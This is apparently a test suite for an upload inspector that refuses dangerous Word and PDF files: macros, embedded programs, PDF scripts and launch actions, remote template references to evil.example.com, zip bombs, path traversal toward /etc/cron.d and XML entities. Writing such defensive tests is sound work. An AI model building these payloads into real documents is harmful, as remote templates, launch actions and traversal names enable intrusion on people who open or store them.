import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { inspectDocument } from './inspect-document.ts'
import { inspectZip } from './inspect-zip.ts'
import { contentTypes, doc, docx, objectList, pdf, relations, xls, xlsx } from './testing/corpus.ts'

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const kinds = { docx: word, doc: 'application/msword', pdf: 'application/pdf' } as const
const faultOf = (kind: keyof typeof kinds, file: Buffer) => inspectDocument(file, kinds[kind])
const part = (name: string, content: Buffer | string = 'x') => ({ name, content })
const settings = (target: string) =>
  relations('word/_rels/x.xml.rels', [{ kind: 'attachedTemplate', target, external: true }])

describe('GAP-144 what members send in earnest passes', () => {
  test.each([
    ['docx', docx()],
    ['docx', docx([part('word/embeddings/Sheet1.xlsx', xlsx())])],
    ['docx', docx([part('word/media/image1.emf', Buffer.alloc(500_000))])],
    ['doc', doc()],
    ['doc', doc({ template: 'C:\\Templates\\letter.dot' })],
    ['pdf', pdf()],
    ['pdf', pdf('/OpenAction [2 0 R /Fit] /Names << /Dests 5 0 R >>')],
    ['pdf', pdf('', objectList('5 0 << /Type /Page /Annots [] >>'))],
    ['pdf', pdf('/Encrypt 9 0 R', objectList(Buffer.from('secret'), '/Filter /Crypt'))],
  ] as const)('%s', async (kind, file) => {
    expect(await faultOf(kind, file)).toBeUndefined()
  })

  test('a sheet is opened as well, though none is asked for', async () => {
    await expect(inspectZip(xlsx())).resolves.toBeUndefined()
  })
})

describe('GAP-144 macros, programs and other files are refused', () => {
  test.each([
    ['macros of a docx', 'docx', docx([part('word/vbaProject.bin')])],
    [
      'macros under another name',
      'docx',
      docx([], contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml')),
    ],
    ['a program', 'docx', docx([part('word/embeddings/invoice.exe')])],
    [
      'a program without its name',
      'docx',
      docx([part('word/media/image1.png', Buffer.from('4d5a9000', 'hex'))]),
    ],
    ['an object of old Office', 'docx', docx([part('word/embeddings/oleObject1.bin', doc())])],
    [
      'a reference to an object',
      'docx',
      docx([relations('word/_rels/y.xml.rels', [{ kind: 'oleObject', target: 'embeddings/a' }])]),
    ],
    [
      'macros of a sheet in it',
      'docx',
      docx([part('word/embeddings/Sheet1.xlsx', xlsx([part('xl/vbaProject.bin')]))]),
    ],
    ['macros of a doc', 'doc', doc({ more: [{ name: 'Macros' }] })],
    ['a project of a doc', 'doc', doc({ more: [{ name: '_VBA_PROJECT' }] })],
    ['a package in a doc', 'doc', doc({ more: [{ name: '\u0001Ole10Native' }] })],
    ['objects in a doc', 'doc', doc({ more: [{ name: 'ObjectPool', hasChildren: true }] })],
    ['a script', 'pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['a script in disguise', 'pdf', pdf('/OpenAction << /S /J#61va#53cript >>')],
    ['a packed script', 'pdf', pdf('', objectList('5 0 << /S /JavaScript /JS (x) >>'))],
    ['a list that is not packed', 'pdf', pdf('', objectList('<< /S /Launch /F (x) >>', ''))],
    ['a program to start', 'pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['a file in a PDF', 'pdf', pdf('/Names << /EmbeddedFiles 7 0 R >>')],
  ] as const)('%s', async (_what, kind, file) => {
    expect(await faultOf(kind, file)).toBe('active')
  })
})

describe('GAP-144 what is fetched from elsewhere is refused', () => {
  test.each([
    ['docx', docx([settings('https://evil.example.com/a.dotm')])],
    ['docx', docx([settings('&#x68;ttps://evil.example.com/a.dotm')])],
    ['docx', docx([settings('file:///\\\\evil.example.com\\share\\a.dotm')])],
    ['docx', docx([settings('\\\\evil.example.com\\share\\a.dotm')])],
    [
      'docx',
      docx([relations('word/_rels/z.xml.rels', [{ kind: 'image', target: '//evil.example.com' }])]),
    ],
    ['doc', doc({ template: 'http://evil.example.com/a.dot' })],
    ['doc', doc({ template: '\\\\evil.example.com\\a.dot' })],
    ['pdf', pdf('/OpenAction << /S /GoToE /F (\\\\\\\\evil.example.com\\\\x.pdf) >>')],
  ] as const)('%s', async (kind, file) => {
    expect(await faultOf(kind, file)).toBe('remote')
  })
})

describe('GAP-144 bombs are refused', () => {
  const zeros = Buffer.alloc(20_000_000)
  test.each([
    ['by ratio', docx([part('word/media/image1.bmp', zeros)])],
    ['by count', docx(Array.from({ length: 2_100 }, (_, at) => part(`word/media/${at}.xml`)))],
    ['by depth', docx([part('a.docx', docx([part('b.docx', docx())]))])],
    [
      'by one content under many names',
      docx([
        part('word/a.xml', Buffer.alloc(900_000, 'ab')),
        { ...part('word/b.xml'), claims: { packedSize: 1_000_000 } },
      ]),
    ],
    ['by more than a whole document', docx(heaps(250, 900_000))],
  ])('%s', async (_how, file) => {
    expect(await faultOf('docx', file)).toBe('swollen')
  })

  test('in a list of objects', async () => {
    expect(await faultOf('pdf', pdf('', objectList(zeros)))).toBe('swollen')
  })
})

describe('GAP-144 what cannot be read is refused', () => {
  test.each([
    ['a name that leads out', 'docx', docx([part('../../../etc/cron.d/x')])],
    ['a name twice', 'docx', docx([part('word/document.xml')])],
    ['a wrong sum', 'docx', docx([{ ...part('word/a.xml'), claims: { sum: 1 } }])],
    [
      'more than it says',
      'docx',
      docx([{ ...part('word/a.xml', Buffer.alloc(5_000)), claims: { size: 10 } }]),
    ],
    ['no list of parts', 'docx', docx([], part('other.xml'))],
    ['parts that are no XML', 'docx', docx([part('word/_rels/a.rels', '<Relationships>')])],
    ['entities', 'docx', docx([part('a.rels', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')])],
    ['half of it', 'docx', docx().subarray(0, 900)],
    ['a sheet that is called doc', 'doc', xls()],
    ['half of a doc', 'doc', doc().subarray(0, 3_000)],
    ['a list that does not unpack', 'pdf', pdf('', broken())],
  ] as const)('%s', async (_what, kind, file) => {
    expect(await faultOf(kind, file)).toBe('unreadable')
  })

  test.each([
    ['docx', docx([{ ...part('word/a.xml'), claims: { flags: 1 } }])],
    ['doc', doc({ flags: 0x0300 })],
    ['doc', doc({ more: [{ name: 'EncryptedPackage' }] })],
  ] as const)('a password: %s', async (kind, file) => {
    expect(await faultOf(kind, file)).toBe('locked')
  })
})

test('chains of a doc that run in a circle come to an end', async () => {
  const file = doc()
  const table = file.length - 512
  for (let at = 0; at < 30; at += 1) file.writeUInt32LE(at === 0 ? 1 : 0, table + at * 4)
  expect(await faultOf('doc', file)).toBe('unreadable')
})

describe('whatever is changed in a good document, there is an answer', () => {
  test.each([
    ['docx', docx([part('word/embeddings/Sheet1.xlsx', xlsx())])],
    ['doc', doc()],
    ['pdf', pdf('', objectList('5 0 << /Type /Page >>'))],
  ] as const)('%s', async (kind, good) => {
    const change = fc.tuple(fc.nat({ max: good.length - 1 }), fc.integer({ min: 0, max: 255 }))
    const answers = new Set([undefined, 'unreadable', 'locked', 'active', 'remote', 'swollen'])
    await fc.assert(
      fc.asyncProperty(
        fc.array(change, { minLength: 1, maxLength: 20 }),
        fc.nat({ max: good.length }),
        async (changes, cut) => {
          const file = Buffer.from(good)
          for (const [at, byte] of changes) file[at] = byte
          expect(answers).toContain(await faultOf(kind, file))
          expect(answers).toContain(await faultOf(kind, file.subarray(0, cut)))
        },
      ),
      { numRuns: 300 },
    )
  })
})

function broken() {
  const list = objectList('5 0 << >>')
  return Buffer.from(list.toString('latin1').replace('stream\r\nx', 'stream\r\ny'), 'latin1')
}

function heaps(count: number, size: number) {
  return Array.from({ length: count }, (_, at) => part(`word/${at}.xml`, Buffer.alloc(size)))
}
